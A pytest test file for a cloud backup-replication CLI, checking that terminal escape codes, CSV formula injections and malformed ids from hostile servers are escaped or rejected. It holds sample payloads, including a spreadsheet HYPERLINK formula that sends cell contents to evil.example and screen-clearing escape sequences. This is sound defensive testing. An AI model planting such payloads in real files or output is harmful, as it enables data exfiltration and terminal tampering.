"""Hostile answers and hostile files never reach a terminal or a spreadsheet as they are:
escape codes from the service are escaped, formulas in CSV cells are neutralised, ids that
must be UUIDs are checked where they enter (issue 21)."""

from __future__ import annotations

import csv
from pathlib import Path
from typing import Any

import orjson
import pytest
from aiohttp import web

from orchestrator.cli.main import main
from orchestrator.discovery.discover import discover
from orchestrator.discovery.manifest_out import write_manifest
from orchestrator.discovery.rules import Destination as Dest
from orchestrator.discovery.rules import DiscoverConfig, Rule
from orchestrator.exitcodes import ExitCode
from orchestrator.safe_text import for_csv, for_terminal, is_uuid
from tests.helpers.hostile import CAPABILITIES, ESC_CLEAR, OSC_TITLE, capabilities, serve
from tests.helpers.ledgerlines import PROJECT, line, pair, result

TOKEN = "tok-secret-0123456789"
ITEM = "00000000-0000-4000-8000-000000000001"
DEST = "b" * 32
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def test_for_terminal_escapes_every_control_character_and_caps() -> None:
    shown = for_terminal(f"a{ESC_CLEAR}b{OSC_TITLE}c\rd\u202ee\x9bf", limit=1000)
    assert "\x1b" not in shown
    assert "\x07" not in shown
    assert "\r" not in shown
    assert "\u202e" not in shown
    assert "\x9b" not in shown
    assert shown.startswith("a\\x1b[2J")
    assert "\\u202e" in shown
    assert "\\x9b" in shown
    assert for_terminal("x" * 50, limit=10) == "x" * 10 + "..."
    assert for_terminal("plain text: ünïcode ok") == "plain text: ünïcode ok"


@pytest.mark.parametrize("cell", ["=1+2", "+1", "-1", "@SUM(A1)", "\tx", "\rx", FORMULA])
def test_for_csv_neutralises_formula_cells(cell: str) -> None:
    assert for_csv(cell) == "'" + cell


def test_for_csv_leaves_plain_cells_and_numbers() -> None:
    assert for_csv(ITEM) == ITEM
    assert for_csv(-3) == -3
    assert for_csv(None) is None
    assert is_uuid(ITEM)
    assert not is_uuid(FORMULA)
    assert not is_uuid(ITEM + "\x1b")


def _manifest(path: Path) -> Path:
    path.write_text(
        "checkpoint_item_id,project_id,source_region,destination_region,destination_project_id\n"
        f"{ITEM},{PROJECT},cn-north-1,cn-east-2,{DEST}\n"
    )
    return path


async def _refuse_with_escape_codes(request: web.Request) -> web.Response:
    """A 401 whose request id clears the screen and whose message echoes the token."""
    body = {
        "error_code": "APIGW.0301",
        "error_msg": f"bad token {request.headers.get('X-Auth-Token')}{OSC_TITLE}",
        "request_id": "r" + ESC_CLEAR,
    }
    return web.json_response(body, status=401)


def _clean_env(monkeypatch: pytest.MonkeyPatch) -> None:
    for name in (
        "HUAWEICLOUD_SDK_AK",
        "HUAWEICLOUD_SDK_SK",
        "CSBS_IAM_PASSWORD",
        "CSBS_ENDPOINT",
        "CSBS_IAM_ENDPOINT",
        "HUAWEICLOUD_SDK_REGION",
        "HUAWEICLOUD_SDK_PROJECT_ID",
        "CSBS_CONCURRENCY",
        "CSBS_RATE",
    ):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setenv("CSBS_AUTH_TOKEN", TOKEN)


def test_escape_codes_in_a_refusal_never_reach_the_terminal(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    _clean_env(monkeypatch)
    manifest, ledger = _manifest(tmp_path / "m.csv"), tmp_path / "l.jsonl"
    with serve({("*", "/{tail:.*}"): _refuse_with_escape_codes}) as server:
        code = main(
            [
                "run",
                "--manifest",
                str(manifest),
                "--ledger",
                str(ledger),
                "--endpoint",
                server.base_url,
                "--no-progress",
                "--log-format",
                "console",
            ]
        )
    out, err = capsys.readouterr()
    assert code == ExitCode.AUTH
    # The preflight is refused: one line on stderr says so, nothing is recorded.
    assert "credentials" in err
    for stream in (out, err):
        assert "\x1b" not in stream
        assert "\x07" not in stream
    assert "r[2J[H" in err  # control characters dropped, the rest shown
    assert not ledger.exists() or b"\\u001b" not in ledger.read_bytes()


def _write_ledger(path: Path, lines: list[dict[str, Any]]) -> None:
    path.write_bytes(b"".join(orjson.dumps(x) + b"\n" for x in lines))


def test_report_table_escapes_hostile_ids_and_messages(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    ledger = tmp_path / "l.jsonl"
    bad = result(1, "failed") | {
        "checkpoint_item_id": "x" + OSC_TITLE,
        "http_status": 400,
        "error_code": "CSBS." + ESC_CLEAR,
        "error_msg": "no" + ESC_CLEAR,
    }
    _write_ledger(ledger, [line("run_started", manifest="m.csv"), bad])
    assert main(["report", str(ledger)]) == ExitCode.OK
    out = capsys.readouterr().out
    assert "Top errors" in out
    assert "\x1b" not in out
    assert "\x07" not in out
    assert "\\x1b]0;pwned\\x07" in out


def test_failed_manifest_neutralises_formulas(tmp_path: Path) -> None:
    ledger, target = tmp_path / "l.jsonl", tmp_path / "again.csv"
    rejected = line(
        "result",
        **(pair(1) | {"checkpoint_item_id": FORMULA}),
        status="rejected",
        error_msg="not a uuid",
        manifest_line=2,
    )
    _write_ledger(ledger, [line("run_started", manifest="m.csv"), rejected])
    code = main(
        [
            "report",
            str(ledger),
            "--format",
            "csv",
            "--failed-manifest",
            str(target),
            "--include",
            "rejected",
        ]
    )
    assert code == ExitCode.OK
    rows = list(csv.reader(target.open()))
    assert rows[1][0] == "'" + FORMULA
    assert target.stat().st_mode & 0o777 == 0o600


class _Lister:
    def __init__(self, items: list[dict[str, Any]]) -> None:
        self.items = items

    async def iter_items(self, project_id: str, **kw: Any) -> Any:
        for item in self.items:
            yield item


@pytest.mark.anyio
async def test_discover_skips_ids_that_are_not_uuids(tmp_path: Path) -> None:
    from orchestrator.discovery.rules import Source

    def item(item_id: str) -> dict[str, Any]:
        return {"id": item_id, "name": "n", "status": "available", "replication_records": []}

    items = [item(ITEM), item(FORMULA), item("ab" + ESC_CLEAR)]
    config = DiscoverConfig((Source(PROJECT, "cn-north-1"),), (Rule((Dest("cn-east-2", DEST),)),))
    found = await discover(_Lister(items), config)
    assert [t.checkpoint_item_id for t in found.tasks] == [ITEM]
    assert found.summaries[0].invalid_ids == 2
    assert "2 with an invalid id skipped" in found.summaries[0].line()
    target = tmp_path / "m.csv"
    write_manifest(found.tasks, target)
    assert FORMULA not in target.read_text()
    assert target.stat().st_mode & 0o777 == 0o600


def test_console_log_lines_escape_control_characters() -> None:
    import io

    import structlog

    from orchestrator.cli.logs import close_logging, configure_logging

    out = io.StringIO()
    configure_logging(fmt="console", level="info", log_file=None, stream=out)
    try:
        structlog.get_logger().warning("replicate.failed", error="x" + ESC_CLEAR + OSC_TITLE)
    finally:
        close_logging()
    text = out.getvalue()
    assert "replicate.failed" in text
    assert "\x1b[2J" not in text
    assert "\x07" not in text
    assert "\\x1b[2J" in text


async def _list_hostile_items(request: web.Request) -> web.Response:
    def item(item_id: str) -> dict[str, Any]:
        return {"id": item_id, "name": "n", "status": "available", "replication_records": []}

    items = [item(ITEM), item(FORMULA), item("@SUM(1)" + OSC_TITLE), item("-2+3")]
    return web.json_response({"checkpoint_items": items})


def test_discover_against_a_hostile_listing_writes_no_formula(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    _clean_env(monkeypatch)
    target = tmp_path / "found.csv"
    route = ("GET", "/v1/{project}/checkpoint_items")
    with serve({route: _list_hostile_items, CAPABILITIES: capabilities}) as server:
        code = main(
            [
                "discover",
                "-o",
                str(target),
                "--endpoint",
                server.base_url,
                "--project-id",
                PROJECT,
                "--region",
                "cn-north-1",
                "--to",
                f"cn-east-2={DEST}",
                "--log-format",
                "console",
            ]
        )
    out, err = capsys.readouterr()
    assert code == ExitCode.OK
    assert "3 with an invalid id skipped" in out
    assert "\x1b" not in out + err
    rows = list(csv.reader(target.open()))
    assert [row[0] for row in rows[1:]] == [ITEM]
    assert target.stat().st_mode & 0o777 == 0o600
